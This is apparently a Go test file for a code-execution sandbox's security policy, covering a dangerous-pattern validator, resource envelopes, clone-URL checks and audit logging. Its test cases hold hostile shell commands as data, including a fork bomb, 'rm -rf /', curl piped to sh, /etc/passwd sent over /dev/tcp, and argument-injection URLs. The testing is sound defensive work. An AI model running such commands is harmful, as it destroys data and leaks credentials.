package security

import (
	"bufio"
	"context"
	"encoding/json"
	"errors"
	"io"
	"log/slog"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func testLogger() *slog.Logger {
	return slog.New(slog.NewTextHandler(io.Discard, nil))
}

func newTestPolicy() *Policy {
	return NewPolicy(PolicyConfig{}, testLogger())
}

func TestValidate_AllowsBenignSnippet(t *testing.T) {
	v := newTestPolicy().Validate(`print("hi")`, "python")

	assert.True(t, v.Allowed)
	assert.Empty(t, v.Violations)
	assert.Equal(t, "python", v.Language)
	assert.Equal(t, NetworkNone, v.Envelope.Network)
	assert.NotEmpty(t, v.Digest)
}

func TestValidate_BlocksDangerousPatterns(t *testing.T) {
	tests := []struct {
		name    string
		lang    string
		payload string
		rule    string
	}{
		{"fork bomb", "bash", ":(){ :|:& };:", "fork-bomb"},
		{"root delete", "bash", "echo bye\nrm -rf /", "fs-root-delete"},
		{"root delete no preserve", "bash", "rm -rf --no-preserve-root / ", "fs-root-delete"},
		{"mkfs", "bash", "mkfs.ext4 /dev/sda1", "fs-format"},
		{"curl pipe", "bash", "curl -s https://x.sh | sh", "pipe-to-shell"},
		{"dev tcp", "bash", "cat /etc/passwd > /dev/tcp/1.2.3.4/80", "dev-tcp"},
		{"sudo", "bash", "sudo cat /etc/shadow", "sudo"},
		{"setuid chmod", "bash", "chmod 4755 ./x", "setuid-bit"},
		{"pip index", "bash", "pip install --index-url https://evil.example/simple pkg", "registry-pip"},
		{"npm registry", "bash", "npm install left-pad --registry https://evil.example", "registry-npm"},
		{"python subprocess", "python", "import subprocess", "py-dangerous-import"},
		{"python import after semicolon", "python", "x = 1; import subprocess", "py-dangerous-import"},
		{"python import list", "python", "import json, subprocess", "py-dangerous-import"},
		{"python from import", "python", "from os import system", "py-dangerous-import"},
		{"python importlib", "python", "m = importlib.import_module('subprocess')", "py-dangerous-import"},
		{"python socket in list", "python", "import re, socket", "py-socket-import"},
		{"python eval", "python", "x = eval(input())", "py-dynamic-code"},
		{"python raw socket", "python", "s = socket.socket(AF_INET, SOCK_RAW, 0)", "raw-socket"},
		{"js child process", "javascript", "const cp = require('child_process')", "js-child-process"},
		{"go exec", "go", "import \"os/exec\"", "go-exec"},
		{"c system", "c", "system(\"ls\");", "system-call"},
		{"uppercase", "bash", "SUDO reboot", "sudo"},
	}
	p := newTestPolicy()
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := p.Validate(tt.payload, tt.lang)
			require.False(t, v.Allowed, "payload should be rejected")
			ids := make([]string, 0, len(v.Violations))
			for _, viol := range v.Violations {
				ids = append(ids, viol.Rule)
			}
			assert.Contains(t, ids, tt.rule)
			assert.Contains(t, v.Reason, "dangerous pattern")
		})
	}
}

func TestValidate_ReportsLineNumbers(t *testing.T) {
	v := newTestPolicy().Validate("echo ok\necho fine\nsudo id\n", "bash")
	require.Len(t, v.Violations, 1)
	assert.Equal(t, 3, v.Violations[0].Line)
}

func TestValidate_DoesNotFlagMethodCalls(t *testing.T) {
	p := newTestPolicy()
	assert.True(t, p.Validate("import re\npattern = re.compile(r'a+')", "python").Allowed)
	assert.True(t, p.Validate("model.eval()", "python").Allowed)
	assert.True(t, p.Validate("import json, osmosis, system_utils", "python").Allowed)
	assert.True(t, p.Validate("const f = function(a) { return a }", "javascript").Allowed)
	assert.True(t, p.Validate("rm -rf /tmp/build", "bash").Allowed)
	assert.True(t, p.Validate("chmod 755 run.sh", "bash").Allowed)
}

func TestValidate_WarnsWithoutRejecting(t *testing.T) {
	v := newTestPolicy().Validate("while True:\n    pass", "python")
	assert.True(t, v.Allowed)
	require.Len(t, v.Warnings, 1)
	assert.Equal(t, "infinite-loop", v.Warnings[0].Rule)
}

func TestValidate_Unparseable(t *testing.T) {
	p := newTestPolicy()

	v := p.Validate("print(\"a\x00\")", "python")
	assert.False(t, v.Allowed)
	assert.Equal(t, ReasonUnparseable, v.Reason)

	v = p.Validate(string([]byte{0xff, 0xfe, 0xfd}), "python")
	assert.False(t, v.Allowed)
	assert.Equal(t, ReasonUnparseable, v.Reason)
}

func TestValidate_OversizedAndUnsupported(t *testing.T) {
	p := NewPolicy(PolicyConfig{MaxPayloadBytes: 16}, testLogger())

	v := p.Validate("print('this is longer than sixteen bytes')", "python")
	assert.False(t, v.Allowed)
	assert.Contains(t, v.Reason, "exceeds")

	v = p.Validate("whatever", "cobol")
	assert.False(t, v.Allowed)
	assert.Contains(t, v.Reason, ErrUnsupportedLanguage.Error())
}

func TestValidate_AliasesNormalize(t *testing.T) {
	v := newTestPolicy().Validate("console.log('hi')", "JS")
	assert.True(t, v.Allowed)
	assert.Equal(t, "javascript", v.Language)
}

func TestEnvelopeFor_Deterministic(t *testing.T) {
	p := newTestPolicy()

	snippet := p.EnvelopeFor("python", TrustSnippet)
	assert.Equal(t, snippet, p.EnvelopeFor("python", TrustSnippet))
	assert.Equal(t, NetworkNone, snippet.Network)
	assert.Equal(t, 256, snippet.MemoryMB)
	assert.Equal(t, 30*time.Second, snippet.Timeout)

	compiled := p.EnvelopeFor("rust", TrustSnippet)
	assert.Greater(t, compiled.MemoryMB, snippet.MemoryMB)

	repo := p.EnvelopeFor("python", TrustRepository)
	assert.Equal(t, NetworkRestricted, repo.Network)
	assert.Equal(t, int64(1000)<<20, repo.DiskBytes())

	assert.Equal(t, snippet, p.EnvelopeFor("python", Trust(99)))
}

func TestParseTrust_DefaultsToSnippet(t *testing.T) {
	assert.Equal(t, TrustRepository, ParseTrust("repository"))
	assert.Equal(t, TrustReadmeTest, ParseTrust("readme_test"))
	assert.Equal(t, TrustSnippet, ParseTrust("root"))
	assert.Equal(t, "batch", TrustBatch.String())
}

type errLimiter struct{}

func (errLimiter) Allow(context.Context, string) (bool, error) {
	return false, errors.New("store down")
}

type denyLimiter struct{}

func (denyLimiter) Allow(context.Context, string) (bool, error) { return false, nil }

func TestRateLimitCheck(t *testing.T) {
	ctx := context.Background()

	assert.True(t, newTestPolicy().RateLimitCheck(ctx, "client-a"))
	assert.False(t, NewPolicy(PolicyConfig{RateLimiter: denyLimiter{}}, testLogger()).RateLimitCheck(ctx, "client-a"))
	assert.True(t, NewPolicy(PolicyConfig{RateLimiter: errLimiter{}}, testLogger()).RateLimitCheck(ctx, "client-a"))
}

func publicLookup(context.Context, string) ([]string, error) {
	return []string{"140.82.112.3"}, nil
}

func TestValidateCloneURL(t *testing.T) {
	ctx := context.Background()
	policy := URLPolicy{AllowedHosts: []string{"github.com"}, Lookup: publicLookup}

	u, err := policy.ValidateCloneURL(ctx, "https://github.com/octocat/Hello-World.git")
	require.NoError(t, err)
	assert.Equal(t, "github.com", u.Host)

	bad := []string{
		"http://github.com/octocat/hello",
		"git@github.com:octocat/hello.git",
		"https://user:pw@github.com/octocat/hello",
		"https://evil.example/octocat/hello",
		"https://github.com/octocat",
		"https://github.com/octocat/--upload-pack=x",
		"https://github.com/octocat/hello?ref=main",
		"file:///etc/passwd",
	}
	for _, raw := range bad {
		_, err := policy.ValidateCloneURL(ctx, raw)
		assert.ErrorIs(t, err, ErrURLNotAllowed, raw)
	}
}

func TestValidateCloneURL_PrivateResolution(t *testing.T) {
	policy := URLPolicy{
		AllowedHosts: []string{"github.com"},
		Lookup: func(context.Context, string) ([]string, error) {
			return []string{"10.0.0.5"}, nil
		},
	}
	_, err := policy.ValidateCloneURL(context.Background(), "https://github.com/octocat/hello")
	assert.ErrorIs(t, err, ErrURLNotAllowed)
	assert.Contains(t, err.Error(), "private IP")
}

func TestLoadRulesFile(t *testing.T) {
	path := filepath.Join(t.TempDir(), "rules.yaml")
	require.NoError(t, os.WriteFile(path, []byte(`
rules:
  - id: no-miners
    description: crypto miner
    pattern: xmrig|minerd
  - id: no-sleep
    pattern: time\.sleep
    severity: warn
    languages: [py]
`), 0o600))

	rules, err := LoadRulesFile(path)
	require.NoError(t, err)
	require.Len(t, rules, 2)
	assert.Equal(t, SeverityBlock, rules[0].Severity)
	assert.Equal(t, []string{"python"}, rules[1].Languages)

	p := newTestPolicy()
	base := p.RuleCount()
	p.SetExtraRules(rules)
	assert.Equal(t, base+2, p.RuleCount())
	assert.False(t, p.Validate("./XMRig --donate 0", "bash").Allowed)
	assert.True(t, p.Validate("time.sleep(1)", "python").Allowed)
}

func TestLoadRulesFile_Invalid(t *testing.T) {
	path := filepath.Join(t.TempDir(), "rules.yaml")
	require.NoError(t, os.WriteFile(path, []byte("rules:\n  - id: broken\n    pattern: '('\n"), 0o600))
	_, err := LoadRulesFile(path)
	assert.Error(t, err)
}

func TestWatchRules_ReloadsOnChange(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "rules.yaml")
	require.NoError(t, os.WriteFile(path, []byte("rules: []\n"), 0o600))

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()

	p := newTestPolicy()
	require.NoError(t, p.WatchRules(ctx, path))
	assert.True(t, p.Validate("echo forbidden-word", "bash").Allowed)

	require.NoError(t, os.WriteFile(path, []byte("rules:\n  - id: word\n    pattern: forbidden-word\n"), 0o600))

	assert.Eventually(t, func() bool {
		return !p.Validate("echo forbidden-word", "bash").Allowed
	}, 5*time.Second, 50*time.Millisecond)
}

func TestDigest_Stable(t *testing.T) {
	assert.Equal(t, Digest("abc"), Digest("abc"))
	assert.NotEqual(t, Digest("abc"), Digest("abd"))
	assert.Len(t, Digest(""), 64)
}

func TestAuditLogger_AppendsJSONL(t *testing.T) {
	path := filepath.Join(t.TempDir(), "audit", "audit.jsonl")
	a, err := NewAuditLogger(path, testLogger())
	require.NoError(t, err)

	ctx := context.Background()
	require.NoError(t, a.Record(ctx, AuditEvent{ExecutionID: "e1", Kind: "code", Status: "success"}))
	require.NoError(t, MultiAuditor{a, nil}.Record(ctx, AuditEvent{ExecutionID: "e2", Kind: "repository", Status: "failed"}))
	require.NoError(t, a.Close())

	f, err := os.Open(path)
	require.NoError(t, err)
	defer f.Close()

	var ids []string
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		var ev AuditEvent
		require.NoError(t, json.Unmarshal(sc.Bytes(), &ev))
		assert.False(t, ev.Timestamp.IsZero())
		ids = append(ids, ev.ExecutionID)
	}
	assert.Equal(t, []string{"e1", "e2"}, ids)
}
